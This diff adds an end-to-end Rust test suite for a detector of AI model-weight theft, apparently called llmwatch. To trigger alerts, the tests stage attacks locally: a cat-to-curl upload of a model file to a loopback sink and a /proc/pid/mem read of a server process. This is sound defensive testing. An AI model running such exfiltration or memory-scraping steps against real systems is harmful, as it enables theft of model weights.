@@ -1,0 +1,207 @@
+//! Detection end to end: real processes, the real agent, alerts as a user receives them.
+use std::{
+    io::{Read, Write},
+    path::Path,
+    process::{Command, Stdio},
+};
+
+use llmwatch_e2e::{Agent, TempDir, Value, secs, write_safetensors};
+
+fn write_config(dir: &Path, yaml: &str) -> String {
+    let p = dir.join("llmwatch.yaml");
+    std::fs::write(&p, yaml).unwrap();
+    p.to_str().unwrap().to_string()
+}
+
+fn alert(rule: &'static str) -> impl Fn(&Value) -> bool {
+    move |v| v["rule"] == rule
+}
+
+/// An HTTP sink on loopback that swallows one request body and answers 200.
+fn http_sink() -> (u16, std::thread::JoinHandle<u64>) {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let h = std::thread::spawn(move || {
+        let (mut s, _) = listener.accept().unwrap();
+        let mut buf = Vec::new();
+        let mut chunk = [0u8; 65536];
+        let mut body_len = None;
+        loop {
+            let n = s.read(&mut chunk).unwrap();
+            if n == 0 {
+                break;
+            }
+            buf.extend_from_slice(&chunk[..n]);
+            if body_len.is_none() {
+                if let Some(end) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
+                    let head = String::from_utf8_lossy(&buf[..end]).to_lowercase();
+                    let len: usize = head
+                        .lines()
+                        .find_map(|l| l.strip_prefix("content-length:").map(|v| v.trim().parse().unwrap()))
+                        .unwrap_or(0);
+                    body_len = Some((end + 4, len));
+                }
+            }
+            if let Some((start, len)) = body_len {
+                if buf.len() >= start + len {
+                    break;
+                }
+            }
+        }
+        let _ = s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
+        buf.len() as u64
+    });
+    (port, h)
+}
+
+#[test]
+fn cat_piped_to_an_upload_raises_exfiltration() {
+    let dir = TempDir::new("exfil");
+    let model = dir.path().join("model.safetensors");
+    let size = 2 * 1024 * 1024 + 333;
+    write_safetensors(&model, size);
+    let mut agent = Agent::watching(&[dir.path()], &[]);
+    let (port, sink) = http_sink();
+    let started = std::time::Instant::now();
+    let status = Command::new("bash")
+        .arg("-c")
+        .arg(format!(
+            "cat {} | curl -s -o /dev/null --data-binary @- http://127.0.0.1:{port}/upload",
+            model.display()
+        ))
+        .status()
+        .unwrap();
+    assert!(status.success());
+    assert!(sink.join().unwrap() >= size as u64);
+    let a = agent.wait_for(secs(10), alert("weight.exfiltration")).expect("no weight.exfiltration alert");
+    assert!(started.elapsed() < secs(10), "took {:?}", started.elapsed());
+    assert_eq!(a["severity"], "critical");
+    assert_eq!(a["files"][0]["path"], model.to_str().unwrap());
+    assert_eq!(a["files"][0]["bytes_read"], size as u64);
+    assert_eq!(a["network"][0]["dest"], "127.0.0.1");
+    assert_eq!(a["network"][0]["port"], port);
+    assert!(a["network"][0]["bytes_sent"].as_u64().unwrap() >= size as u64 / 10);
+    assert_eq!(a["incomplete"], false);
+    let summary = a["summary"].as_str().unwrap();
+    assert!(summary.contains(&format!("127.0.0.1:{port}")), "{summary}");
+    // The process chain names the shell that joined cat and curl.
+    let chain: Vec<&str> = a["process"]["ancestry"].as_array().unwrap().iter().map(|p| p["comm"].as_str().unwrap()).collect();
+    assert!(chain.contains(&"bash"), "{chain:?}");
+}
+
+#[test]
+fn cp_at_an_off_hours_time_raises_off_hours_access() {
+    let dir = TempDir::new("offhours");
+    let out = TempDir::new("offhours-out");
+    let model = dir.path().join("model.gguf");
+    let mut data = b"GGUF\x03\0\0\0".to_vec();
+    data.resize(3 * 1024 * 1024, 1);
+    std::fs::write(&model, &data).unwrap();
+    let cfg = write_config(
+        out.path(),
+        "business_hours: {timezone: Europe/Berlin, days: [mon, tue, wed, thu, fri], start: '08:00', end: '19:00'}\n\
+         rules: {weight.off_hours_access: {min_bytes: 1MiB}}\n",
+    );
+    // Sunday 04:00 in Berlin.
+    let mut agent = Agent::watching(&[dir.path()], &["--config", &cfg, "--clock-start", "2026-11-22T03:00:00Z"]);
+    let cp = Command::new("cp").arg(&model).arg(out.path().join("copy.gguf")).spawn().unwrap();
+    let cp_pid = cp.id();
+    assert!(cp.wait_with_output().unwrap().status.success());
+    let a = agent.wait_for(secs(10), alert("weight.off_hours_access")).expect("no off-hours alert");
+    assert_eq!(a["process"]["pid"], cp_pid);
+    assert!(a["summary"].as_str().unwrap().contains("Sun 04:"), "{}", a["summary"]);
+    assert!(a["time"].as_str().unwrap().starts_with("2026-11-22T03:"), "{}", a["time"]);
+    // cp is also an unexpected reader and a bulk read.
+    assert!(agent.wait_for(secs(5), alert("weight.bulk_read")).is_some());
+}
+
+#[test]
+fn allowed_server_reading_its_model_raises_nothing() {
+    let dir = TempDir::new("server");
+    let cfgdir = TempDir::new("server-cfg");
+    let model = dir.path().join("model.safetensors");
+    write_safetensors(&model, 3 * 1024 * 1024);
+    let cfg = write_config(
+        cfgdir.path(),
+        "servers:\n  - name: test-server\n    argv: ['fake-inference-server *']\n    startup_window: 10m\n",
+    );
+    let mut agent = Agent::watching(&[dir.path()], &["--config", &cfg, "--clock-start", "2026-11-22T03:00:00Z"]);
+    // The "server": argv[0] says what it is; it reads (and maps) its whole model.
+    let server = Command::new("bash")
+        .arg("-c")
+        .arg(format!("exec -a fake-inference-server cat {} > /dev/null", model.display()))
+        .spawn()
+        .unwrap();
+    let server_pid = server.id();
+    assert!(server.wait_with_output().unwrap().status.success());
+    // A marker: an unexpected reader afterwards. Once its alert is in, the server's would be too.
+    let marker = Command::new("head").arg("-c").arg("100").arg(&model).stdout(Stdio::null()).spawn().unwrap();
+    let marker_pid = marker.id();
+    assert!(marker.wait_with_output().unwrap().status.success());
+    agent
+        .wait_for(secs(10), |v| v["rule"] == "weight.unexpected_reader" && v["process"]["pid"] == marker_pid)
+        .expect("marker alert");
+    let about_server: Vec<&Value> =
+        agent.seen.iter().filter(|v| v.get("rule").is_some() && v["process"]["pid"] == server_pid).collect();
+    assert!(about_server.is_empty(), "allowed server raised: {about_server:#?}");
+    let reads: Vec<&Value> =
+        agent.seen.iter().filter(|v| v["kind"] == "file_read" && v["task"]["pid"] == server_pid).collect();
+    assert!(!reads.is_empty(), "the server's reads were not even seen");
+}
+
+#[test]
+fn burst_of_gpu_processes_raises_spawn_storm() {
+    let dir = TempDir::new("storm");
+    let node = dir.path().join("nvidia0");
+    let c = std::ffi::CString::new(node.to_str().unwrap()).unwrap();
+    assert_eq!(unsafe { libc::mknod(c.as_ptr(), libc::S_IFCHR | 0o666, libc::makedev(195, 0)) }, 0);
+    let cfg = write_config(dir.path(), "rules: {gpu.spawn_storm: {max_spawns: 10, per: 1m}}\n");
+    let mut agent = Agent::watching(&[dir.path()], &["--config", &cfg]);
+    let status = Command::new("bash")
+        .arg("-c")
+        .arg(format!("for i in $(seq 20); do cat {} 2>/dev/null; done; true", node.display()))
+        .status()
+        .unwrap();
+    assert!(status.success());
+    let a = agent.wait_for(secs(10), alert("gpu.spawn_storm")).expect("no gpu.spawn_storm alert");
+    assert_eq!(a["severity"], "high");
+    assert!(a["summary"].as_str().unwrap().contains("GPU processes"), "{}", a["summary"]);
+    // Each cat was also an unexpected GPU user.
+    assert!(agent.wait_for(secs(2), alert("gpu.unexpected_user")).is_some());
+}
+
+#[test]
+fn memory_scrape_of_a_server_by_proc_mem() {
+    let dir = TempDir::new("scrape");
+    let cfg = write_config(dir.path(), "servers:\n  - name: sleeper\n    argv: ['fake-model-server *']\n");
+    let mut agent = Agent::watching(&[dir.path()], &["--config", &cfg]);
+    let mut server = Command::new("bash").arg("-c").arg("exec -a fake-model-server sleep 30").spawn().unwrap();
+    std::thread::sleep(std::time::Duration::from_millis(300));
+    let pid = server.id();
+    // Reading its memory through procfs (root may).
+    let _f = std::fs::File::open(format!("/proc/{pid}/mem")).unwrap();
+    let a = agent.wait_for(secs(10), alert("host.memory_scrape"));
+    let _ = server.kill();
+    let _ = server.wait();
+    let a = a.expect("no host.memory_scrape alert");
+    assert_eq!(a["severity"], "critical");
+    assert!(a["summary"].as_str().unwrap().contains("proc_mem_open"), "{}", a["summary"]);
+}
+
+#[test]
+fn config_validate_names_every_problem_with_its_line() {
+    let dir = TempDir::new("validate");
+    let bad = write_config(
+        dir.path(),
+        "egress:\n  allow: ['10.0.0.0/33']\nbusiness_hours:\n  start: '25:00'\nrulez: {}\n",
+    );
+    let out = Command::new(llmwatch_e2e::agent_binary()).args(["config", "validate", &bad]).output().unwrap();
+    assert!(!out.status.success(), "a bad file must fail validation");
+    let text = String::from_utf8_lossy(&out.stderr);
+    assert!(text.contains("egress.allow[0]") && text.contains("line 2"), "{text}");
+    assert!(text.contains("business_hours.start") && text.contains("line 4"), "{text}");
+    assert!(text.contains("rulez") && text.contains("line 5"), "{text}");
+    let good = write_config(dir.path(), "inference_ports: [8000]\n");
+    let out = Command::new(llmwatch_e2e::agent_binary()).args(["config", "validate", &good]).output().unwrap();
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+}
